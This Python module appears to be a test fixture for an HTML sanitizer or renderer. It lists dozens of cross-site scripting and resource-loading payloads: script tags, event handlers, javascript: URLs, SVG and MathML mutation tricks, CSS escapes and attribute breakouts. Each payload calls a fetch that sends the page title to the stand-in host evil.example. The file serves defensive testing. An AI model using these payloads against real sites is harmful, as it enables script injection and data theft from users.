"""Pages that try to run a script, to load something, or to break out of where they are shown. Our own writing.

Each calls `steal()` or asks `evil.example` for something; neither may happen.
"""

__all__ = ["XSS_PAGES"]

CALL = "window.top.stolen=1;window.stolen=1;parent.stolen=1;fetch('https://evil.example/'+document.title)"

XSS_PAGES: tuple[str, ...] = (
    f"<p>Plain</p><script>{CALL}</script>",
    f"<p>Module</p><script type=module>{CALL}</script>",
    "<p>Remote</p><script src=https://evil.example/a.js></script>",
    f'<p>Image</p><img src=x onerror="{CALL}">',
    f'<p onclick="{CALL}" onmouseover="{CALL}" onfocus="{CALL}" tabindex=0 autofocus>Handlers</p>',
    f'<body onload="{CALL}" onpageshow="{CALL}"><p>Body handlers</p>',
    f'<svg onload="{CALL}"><script>{CALL}</script><p>In SVG</p></svg><p>After</p>',
    f'<svg><animate onbegin="{CALL}" attributeName=x dur=1s><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{CALL}</script>"></iframe></foreignObject></svg><p>Foreign</p>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{CALL}"></style></mglyph></table></mtext></math><p>M</p>',
    f'<a href="javascript:{CALL}">Link</a><p>Text under it</p>',
    f'<a href="java&#9;script:{CALL}">Tab in scheme</a><a href=" javascript:{CALL}">Space</a>',
    f'<a href="data:text/html,<script>{CALL}</script>">Data link</a>',
    f'<form action="javascript:{CALL}"><p>Form</p><button>Send</button><input autofocus onfocus="{CALL}"></form>',
    f'<button form=f formaction="javascript:{CALL}">Button</button><form id=f></form><p>Text</p>',
    f'<iframe src="javascript:{CALL}"></iframe><iframe srcdoc="<script>{CALL}</script>"></iframe><p>Frames</p>',
    '<iframe src="https://evil.example/frame"></iframe><p>Remote frame</p>',
    f'<object data="javascript:{CALL}"></object><embed src="https://evil.example/e.swf"><p>Objects</p>',
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}"><p>Refresh</p>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/away"><p>Refresh away</p>',
    '<base href="https://evil.example/"><img src=a.png><link rel=stylesheet href=a.css><p>Base</p>',
    "<link rel=preload as=script href=https://evil.example/p.js><link rel=prefetch href=https://evil.example/q><p>L</p>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example><p>Preconnect</p>",
    "<style>@import url(https://evil.example/a.css); p{background:url(https://evil.example/b.png)}</style><p>Styles</p>",
    "<style>@\\69mport 'https://evil.example/c.css'; p{background:u\\72l(https://evil.example/d.png)}</style><p>Esc</p>",
    "<style>@font-face{font-family:f;src:url(https://evil.example/f.woff)} p{font-family:f}</style><p>Font</p>",
    f"<style><!--</style><script>{CALL}</script>--></style><p>Style end</p>",
    '<p style="background:url(https://evil.example/i.png)">Inline style</p>',
    f'<p style="background:u\\72l(https://evil.example/j.png);x:expression({CALL})">Escaped inline style</p>',
    "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay></video><p>Video</p>",
    f'<audio src=x onerror="{CALL}"></audio><video><source onerror="{CALL}"></video><p>Source</p>',
    '<picture><source srcset=https://evil.example/s.png><img srcset="https://evil.example/t.png 2x"></picture><p>P</p>',
    '<table background=https://evil.example/t.png><tr><td background="https://evil.example/u.png">Cell</td></tr></table>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{CALL}'>\">Noscript</p></noscript>",
    f'<template><img src=x onerror="{CALL}"><script>{CALL}</script></template><p>Template</p>',
    f'<textarea></textarea><img src=x onerror="{CALL}"></textarea><p>Textarea</p>',
    f"<title></title><script>{CALL}</script></title><p>Title</p>",
    f"<p>&lt;script&gt;{CALL}&lt;/script&gt; as text</p>",
    f"<p>]]>--></script></style></template><script>{CALL}</script>Breaks out of a script</p>",
    f"<!--><script>{CALL}</script>--><p>Comment</p>",
    f'<p title="&quot;><script>{CALL}</script>">Attribute</p>',
    f'<p class="&quot; onmouseover=&quot;{CALL}" id="x&quot;><img src=x onerror=&quot;{CALL}">Class</p>',
    f'<p lang="&quot;><script>{CALL}</script>" dir="&quot; onclick=&quot;{CALL}">Language</p>',
    f"<html lang='\"><script>{CALL}</script>'><body class='\" onload=\"{CALL}'><p>Root</p>",
    f'<details open ontoggle="{CALL}"><summary>Details</summary><p>Text in it</p></details>',
    f'<marquee onstart="{CALL}">Marquee</marquee><isindex type=image src=1 onerror="{CALL}"><p>Old</p>',
    f'<x-card onclick="{CALL}" is=x contenteditable onbeforecopy="{CALL}"><p>Custom element</p></x-card>',
    f'<select><option>1</select><select><style></select><img src=x onerror="{CALL}"></style></select><p>Select</p>',
    f"<plaintext></plaintext><script>{CALL}</script>",
    f"<xmp></xmp><script>{CALL}</script></xmp><p>Xmp</p>",
    f'<p id=report-data>Clobbered</p><form id=frame name=body><input name=attributes onfocus="{CALL}"></form>',
    f'<frameset onload="{CALL}"><frame src="javascript:{CALL}"></frameset>',
    f'<p>\u2028\u2029{{{{constructor.constructor("{CALL}")()}}}} {{% raw %}} ${{{CALL}}}</p>',
    f'<script type="application/ld+json">{{"@type":"NewsArticle","headline":"</script><script>{CALL}</script>"}}'
    f'<h1>Data island</h1><p><a href="javascript:{CALL}" ping="https://evil.example/ping">x</a></p>',
    f'<meta property="og:title" content="&lt;img src=x onerror={CALL}&gt;"><p>Metadata that is markup, in a field.</p>',
    f"<article><h1>News</h1><p>{'A long sentence that is kept as the body of the article, word by word. ' * 6}</p>"
    f"<p>{'Another sentence of the body with <a href=javascript:steal()>a link</a> in it, and more. ' * 6}</p>"
    f'<figure><img src="https://evil.example/pixel.png" onload="{CALL}"><figcaption>Caption</figcaption></figure>',
)
